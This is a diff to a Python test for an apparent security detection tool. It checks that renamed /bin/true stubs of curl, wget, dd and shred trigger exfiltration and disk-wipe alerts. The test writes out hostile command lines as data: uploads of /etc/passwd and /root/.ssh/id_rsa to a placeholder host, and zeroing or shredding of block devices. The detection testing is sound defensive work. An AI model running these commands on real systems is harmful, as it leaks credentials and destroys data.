@@ -966,6 +966,27 @@ def test_process_hidden_by_proc_mount(vd, tmp):
         kill_group(victim)
 
 
+def test_file_upload_and_disk_wipe(vd, tmp):
+    # played by copies of /bin/true: the detection is on the exec
+    curl = fake_tool(tmp, "curl")
+    wget = fake_tool(tmp, "wget")
+    dd = fake_tool(tmp, "dd")
+    shred = fake_tool(tmp, "shred")
+    url = "https://files.example.invalid/u"
+    for argv in ([curl, "-T", "/tmp/loot.tgz", url], [curl, "-F", "f=@/etc/passwd", url],
+                 [curl, "--data-binary", "@/root/.ssh/id_rsa", url], [wget, "--post-file=/tmp/db.sql", url]):
+        pid, _, _ = run(argv)
+        expect(vd, "exfiltration/file_upload_with_http_client", pid=pid, sid=pid)
+    for argv in ([dd, "if=/dev/zero", "of=/dev/vda", "bs=1M"], [shred, "-n1", "-z", "/dev/nvme0n1"]):
+        pid, _, _ = run(argv)
+        expect(vd, "impact/disk_wipe_block_device", pid=pid, sid=pid)
+    # benign: downloads, a JSON post, dd into a file, shred of a file
+    b = [run(argv)[0] for argv in ([curl, "-sfo", f"{tmp}/x", url], [curl, "-d", '{"a":1}', url],
+                                   [wget, "-q", url], [dd, "if=/dev/zero", f"of={tmp}/img", "bs=1M", "count=1"],
+                                   [shred, "-u", f"{tmp}/x"])]
+    assert_quiet(vd, pids=b, sids=b)
+
+
 def test_account_creation(vd, tmp):
     prefix = os.path.join(tmp, "root")
     os.makedirs(os.path.join(prefix, "etc"))
